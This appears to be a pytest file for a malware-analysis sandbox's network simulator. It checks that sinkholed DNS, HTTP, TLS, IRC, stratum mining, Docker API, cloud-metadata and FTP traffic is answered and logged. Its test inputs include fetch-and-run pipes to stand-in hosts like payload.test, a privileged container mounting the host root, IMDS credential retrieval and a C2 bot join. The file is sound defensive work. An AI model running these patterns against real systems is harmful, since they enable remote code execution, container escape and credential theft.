"""The services against real clients (busybox wget/nc, curl, openssl s_client, our stratum
client) run inside a sample namespace wired to the simulator. The last test collects the events
and checks that every conversation above was recorded."""

from __future__ import annotations

import itertools
import json
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from netsim_support import Wired, needs_root

from detonate.model.netevents import (
    BytesSunk,
    Connected,
    DatagramSunk,
    DnsQueried,
    DockerApiCalled,
    HttpRequested,
    IrcJoined,
    IrcMessaged,
    StratumLogin,
    StratumSessionEnded,
    TlsHello,
    TrafficMeasured,
)
from detonate.sandbox.netsim.payloads import MARKER

pytestmark = [needs_root, pytest.mark.sandbox]
CLIENT = Path(__file__).with_name("stratum_client.py")


@pytest.fixture(scope="module", autouse=True)
def resolv_conf(wired: Wired) -> Iterator[None]:
    # `ip netns exec` bind-mounts /etc/netns/NAME/resolv.conf: the one prepare() wrote
    folder = Path("/etc/netns") / wired.netns.name
    folder.mkdir(parents=True, exist_ok=True)
    shutil.copy(wired.rootfs / "etc/resolv.conf", folder / "resolv.conf")
    yield
    shutil.rmtree(folder, ignore_errors=True)


def test_names_resolve_to_sinkholes_and_patterns_to_nxdomain(wired: Wired) -> None:
    found = wired.netns.run("busybox", "nslookup", "pool.test")
    assert "198.18." in found.stdout
    missing = wired.netns.run("busybox", "nslookup", "dga-x1y2.test")
    assert "198.18." not in missing.stdout and "NXDOMAIN" in missing.stdout + missing.stderr


def test_busybox_wget_script_piped_to_sh_runs(wired: Wired) -> None:
    done = wired.netns.run("sh", "-c", "busybox wget -q -O- http://payload.test/p.sh | sh")
    assert done.stdout.strip() == f"{MARKER} script /p.sh"


def test_downloaded_elf_runs(wired: Wired, tmp_path: Path) -> None:
    target = tmp_path / "agent"
    fetched = wired.netns.run("busybox", "wget", "-q", "-O", str(target), "http://bin.test/agent")
    assert fetched.returncode == 0, fetched.stderr
    target.chmod(0o755)
    assert wired.netns.run(str(target)).stdout.strip() == f"{MARKER} elf /agent"


def test_curl_trusts_the_ca_written_into_the_rootfs(wired: Wired) -> None:
    bundle = wired.rootfs / "etc/ssl/certs/ca-certificates.crt"
    done = wired.netns.run("sh", "-c", f"curl -sS --cacert {bundle} https://dl.test/s.sh | sh")
    assert done.stdout.strip() == f"{MARKER} script /s.sh", done.stderr


@pytest.mark.skipif(shutil.which("openssl") is None, reason="needs openssl")
def test_openssl_s_client_verifies_a_leaf_for_its_sni(wired: Wired) -> None:
    bundle = wired.rootfs / "etc/ssl/certs/ca-certificates.crt"
    done = wired.netns.run(
        "openssl", "s_client", "-connect", "198.51.100.20:8443", "-servername", "c2.test",
        "-CAfile", str(bundle), "-verify_return_error", "-brief", "-ign_eof",
        stdin="GET /custom/x HTTP/1.0\r\nHost: c2.test\r\n\r\n",
    )  # fmt: skip
    assert "Verification: OK" in done.stderr, done.stderr
    assert f"{MARKER} text /custom/x" in done.stdout


def test_busybox_wget_over_tls(wired: Wired) -> None:
    # Debian's busybox wget hands TLS to `openssl s_client -verify_return_error`: it verifies
    # against the bundle prepare() wrote (the busybox image's built-in TLS does not verify)
    bundle = wired.rootfs / "etc/ssl/certs/ca-certificates.crt"
    done = wired.netns.run(
        "env", f"SSL_CERT_FILE={bundle}", "busybox", "wget", "-q", "-O-", "https://bb.test/run.sh"
    )
    assert MARKER in done.stdout, done.stderr


@pytest.mark.parametrize("dialect", ["xmrig", "bitcoin"])
def test_stratum_client_gets_a_new_job_id_on_every_push(wired: Wired, dialect: str) -> None:
    port = "3333" if dialect == "xmrig" else "14444"
    done = wired.netns.run("python3", str(CLIENT), dialect, f"{dialect}.pool.test", port)
    assert done.returncode == 0, done.stderr
    seen = json.loads(done.stdout)
    assert len(set(seen["job_ids"])) == len(seen["job_ids"]) >= 2
    assert seen["status"] in ("OK", "authorized")


def test_irc_registration_is_welcomed(wired: Wired) -> None:
    script = "NICK bot7\r\nUSER bot7 0 * :bot\r\nJOIN #c2test\r\nPRIVMSG #c2test :ready\r\nQUIT\r\n"
    done = wired.netns.run("busybox", "nc", "-w", "3", "irc.c2.test", "6667", stdin=script)
    assert " 001 bot7 " in done.stdout
    assert "JOIN #c2test" in done.stdout


def test_docker_api_answers_like_an_engine(wired: Wired) -> None:
    base = "http://198.51.100.75:2375"

    def call(*args: str) -> str:
        return wired.netns.run("curl", "-sS", "-m", "5", *args).stdout

    assert call(f"{base}/_ping") == "OK"
    assert json.loads(call(f"{base}/v1.43/version"))["ApiVersion"] == "1.43"
    assert "Pull complete" in call(
        "-X", "POST", f"{base}/v1.43/images/create?fromImage=alpine&tag=3"
    )
    spec = {"Image": "alpine:3", "Cmd": ["sh", "-c", "echo hi"],
            "HostConfig": {"Privileged": True, "Binds": ["/:/host"]}}  # fmt: skip
    created = json.loads(call("-X", "POST", "-H", "Content-Type: application/json", "-d",
                              json.dumps(spec), f"{base}/v1.43/containers/create"))  # fmt: skip
    assert len(created["Id"]) == 64
    call("-X", "POST", f"{base}/v1.43/containers/{created['Id']}/start")
    assert "Id" in json.loads(call("-X", "POST", "-d", '{"Cmd":["id"]}', "-H",
                                   "Content-Type: application/json",
                                   f"{base}/v1.43/containers/{created['Id']}/exec"))  # fmt: skip


def test_server_first_port_gets_a_banner(wired: Wired) -> None:
    done = wired.netns.run("sh", "-c", "sleep 1.5 | busybox nc -w 3 198.51.100.30 21")
    assert done.stdout.startswith("220 ")


DNS_TCP_AND_UDP = """
import socket, struct
from dnslib import DNSRecord
query = DNSRecord.question("over-tcp.test").pack()
sock = socket.create_connection(("8.8.8.8", 53), timeout=5)
sock.sendall(struct.pack("!H", len(query)) + query)
length = struct.unpack("!H", sock.recv(2))[0]
print(DNSRecord.parse(sock.recv(length)).a.rdata)
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for _ in range(3):
    udp.sendto(b"\\x17flood-probe", ("198.51.100.40", 9999))
"""


def test_dns_over_tcp_to_a_public_resolver_is_answered_here(wired: Wired) -> None:
    done = wired.netns.python(DNS_TCP_AND_UDP)
    assert done.stdout.startswith("198.18."), done.stderr


def test_imdsv2_token_is_text_and_the_role_credentials_are_json(wired: Wired) -> None:
    imds = "http://169.254.169.254/latest"
    token = wired.netns.run("curl", "-sS", "-X", "PUT", f"{imds}/api/token",
                            "-H", "X-aws-ec2-metadata-token-ttl-seconds: 60")  # fmt: skip
    assert token.returncode == 0 and token.stdout.isprintable() and token.stdout, token.stderr
    header = f"X-aws-ec2-metadata-token: {token.stdout}"
    ask = "curl -sS -H '{h}' {imds}/meta-data/{p}"
    zone = wired.netns.run("sh", "-c", ask.format(h=header, imds=imds, p="placement/region"))
    assert zone.stdout == "us-east-1"
    role = wired.netns.run("sh", "-c", ask.format(h=header, imds=imds,
                           p="iam/security-credentials/"))  # fmt: skip
    creds = wired.netns.run("sh", "-c", ask.format(h=header, imds=imds,
                            p=f"iam/security-credentials/{role.stdout}"))  # fmt: skip
    assert json.loads(creds.stdout)["AccessKeyId"].startswith("ASIA")


def test_ftp_upload_in_passive_mode_reaches_the_sink(wired: Wired, tmp_path: Path) -> None:
    upload = tmp_path / "report.txt"
    upload.write_text("ftp-passive-upload-body\n")
    done = wired.netns.run("busybox", "ftpput", "-v", "198.51.100.31", "r.txt", str(upload))
    assert done.returncode == 0, done.stderr


TEXT_TO_PORT_53 = """
import socket
sock = socket.create_connection(("198.51.100.53", 53), timeout=5)
sock.sendall(b"HELLO text-not-dns host=c8c7\\n")
sock.close()
"""


def test_text_sent_to_port_53_is_sunk_not_taken_for_dns(wired: Wired) -> None:
    done = wired.netns.python(TEXT_TO_PORT_53)
    assert done.returncode == 0, done.stderr


def test_zz_every_conversation_became_an_event(wired: Wired) -> None:
    events = wired.sim.collect()
    by_kind: dict[type, list] = {}
    for event in events:
        by_kind.setdefault(type(event), []).append(event)
        assert event.pid == 0
    queried = {e.name: e for e in by_kind[DnsQueried] if e.qtype == "A"}
    assert queried["pool.test"].answers[0].startswith("198.18.")
    assert queried["dga-x1y2.test"].rcode == "NXDOMAIN"
    assert "over-tcp.test" in queried

    urls = {e.url for e in by_kind[HttpRequested]}
    assert {"http://payload.test/p.sh", "https://dl.test/s.sh", "http://bin.test/agent"} <= urls
    served = {e.path: e.served for e in by_kind[HttpRequested]}
    assert served["/agent"] == "elf" and served["/custom/x"] == "text"
    assert {"dl.test", "c2.test", "bb.test"} <= {e.sni for e in by_kind[TlsHello]}

    connected = by_kind[Connected]
    assert any(e.domain == "payload.test" and e.dst_port == 80 for e in connected)
    assert any(e.dst_ip == "8.8.8.8" and e.protocol == "dns" for e in connected)

    logins = {e.dialect: e for e in by_kind[StratumLogin]}
    xmrig = logins["xmrig"]
    assert xmrig.wallet.startswith("4FAKEWALLET") and xmrig.worker == "rig7"
    assert xmrig.rig_id == "rig-7" and xmrig.algos[0] == "rx/0" and xmrig.agent.startswith("XMRig")
    assert xmrig.domain == "xmrig.pool.test"
    assert logins["bitcoin"].wallet == "bc1qfakewallet" and logins["bitcoin"].password == "pw"
    assert sum(e.shares for e in by_kind[StratumSessionEnded]) == 2

    assert any(e.channel == "#c2test" and e.nick == "bot7" for e in by_kind[IrcJoined])
    assert any(e.text == "ready" for e in by_kind[IrcMessaged])

    calls = [e for e in by_kind[DockerApiCalled]]
    assert [e.operation for e in calls][:4] == ["ping", "version", "image.pull", "container.create"]
    create = calls[3]
    assert create.privileged and create.binds == ("/:/host",) and create.image == "alpine:3"
    assert {"container.start", "exec.create"} <= {e.operation for e in calls}

    assert any(e.protocol == "ftp" for e in by_kind[BytesSunk])
    (data,) = [e for e in by_kind[BytesSunk] if e.protocol == "ftp-data"]
    assert "ftp-passive-upload-body" in data.preview and data.dst_ip == "198.51.100.31"
    (text,) = [e for e in by_kind[BytesSunk] if e.dst_port == 53]
    assert text.protocol == "raw" and "HELLO text-not-dns" in text.preview
    assert any(e.dst_ip == "198.51.100.53" and e.protocol == "raw" for e in connected)
    served = {e.path: e.served for e in by_kind[HttpRequested] if e.dst_ip == "169.254.169.254"}
    assert served["/latest/api/token"] == "text"
    sunk = [e for e in by_kind.get(DatagramSunk, []) if e.dst_port == 9999]
    if wired.sim.udp_sink:
        assert sunk[0].dst_ip == "198.51.100.40" and sunk[0].datagrams == 3

    (traffic,) = by_kind[TrafficMeasured]
    assert traffic.packets > 50 and traffic.distinct_destinations >= 8
    assert wired.sim.pcap_path.stat().st_size == traffic.pcap_bytes > 24
    assert [e.seq for e in events] == list(range(len(events)))
    assert all(b.ts >= a.ts for a, b in itertools.pairwise(events[:-1]))
